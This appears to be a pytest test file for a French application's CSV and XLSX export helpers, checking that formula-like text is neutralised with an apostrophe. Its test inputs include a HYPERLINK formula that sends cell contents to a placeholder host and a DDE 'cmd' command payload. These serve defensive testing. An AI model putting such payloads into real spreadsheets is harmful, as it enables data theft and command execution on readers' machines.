"""The one neutralisation of spreadsheet cells (web/tableurs.py) that every CSV and XLSX export goes through: a text
beginning like a formula is data, numbers are never touched (the probe of 6 December)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from solidarite.web.tableurs import FORMULA_STARTS, csv_cell, xlsx_cell

pytestmark = pytest.mark.sans_base


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_beginning_like_a_formula_gets_an_apostrophe_in_csv(start: str) -> None:
    assert csv_cell(f"{start}SUM(1+1)").startswith(f"'{start}".replace("\r", "\n"))


@pytest.mark.parametrize(
    "value", [-100, Decimal("-100.00"), -1.25, 0, None, dt.date(2026, 10, 1), "Moreau-Durand", "CC Cère", ""]
)
def test_numbers_dates_and_plain_texts_are_left_as_they_are(value: object) -> None:
    assert csv_cell(value) == value
    book = Workbook(write_only=True)
    assert xlsx_cell(book.create_sheet("x"), value) == value


def test_in_xlsx_a_formula_like_text_is_a_text_cell_with_its_value_unchanged() -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    texts = [
        '=HYPERLINK("http://exemple.invalid/?x="&A2,"Moreau")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2",
        "+33",
    ]
    sheet.append([xlsx_cell(sheet, t) for t in texts] + [xlsx_cell(sheet, -2)])
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(load_workbook(buffer).active.iter_rows())
    assert [(c.value, c.data_type, c.quotePrefix) for c in row] == [(t, "s", True) for t in texts] + [
        (-2, "n", False)
    ]


# --- The pieces a spreadsheet splitting on « ; » and line breaks makes cells of -----------------------------------

NAME = 'Dupont ; "Jo"\n=HYPERLINK("http://exemple.invalid/?x="&A2;"x");-2+3'
NEUTRALISED = 'Dupont ; "Jo"\n\'=HYPERLINK("http://exemple.invalid/?x="&A2;"x");\'-2+3'


def _cells_of_a_semicolon_spreadsheet(text: str) -> list[str]:
    """The cells French Excel makes of a comma file opened by a double click: a row per line, a cell per « ; »,
    a piece beginning with a quote read from after it."""
    return [piece.lstrip(' "') for line in text.split("\n") for piece in line.split(";")]


def _formulas(text: str) -> list[str]:
    return [cell for cell in _cells_of_a_semicolon_spreadsheet(text) if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (NAME, NEUTRALISED),
        ("=1+1;@SUM(1)", "'=1+1;'@SUM(1)"),
        ("a\r\n+33\r-1", "a\n'+33\n'-1"),
        ("a;  =1", "a;'  =1"),
        ("Saint-Jean ; Bourg\nligne 2 ; -", "Saint-Jean ; Bourg\nligne 2 ;' -"),
    ],
)
def test_a_piece_after_a_semicolon_or_a_line_break_beginning_like_a_formula_gets_an_apostrophe(
    text: str, expected: str
) -> None:
    """French Excel splits a comma file on « ; » and ends a row at a line break, quotes or not: « Dupont;=… » put
    a formula in the second cell (the probe of 7 December)."""
    assert csv_cell(text) == expected


def test_the_dashboard_and_open_data_csv_keep_a_tricky_name_in_one_cell_and_no_formula() -> None:
    from solidarite.pilotage.colonnes import Colonne
    from solidarite.pilotage.exports import csv_text

    columns = [
        Colonne("zone", "Zone", "", "string"),
        Colonne("nom", "Nom", "", "string"),
        Colonne("n", "N", ""),
    ]
    text = csv_text(columns, [{"zone": "200000172", "nom": "=" + NAME, "n": 3}])
    assert list(csv.reader(io.StringIO(text))) == [
        ["zone", "nom", "n"],
        ["200000172", "'=" + NEUTRALISED, "3"],
    ]
    assert _formulas(text) == []


def test_the_indemnity_csv_neutralises_the_pieces_too() -> None:
    from solidarite.indemnisation.exports import COLUMNS, csv_text

    row = dict.fromkeys(COLUMNS, "") | {"mois": dt.date(2026, 10, 1), "nom": NAME, "motif": "ok;=1+1"}
    text = csv_text([row])
    read = next(csv.DictReader(io.StringIO(text)))
    assert (read["nom"], read["motif"]) == (NEUTRALISED, "ok;'=1+1")
    assert _formulas(text) == []
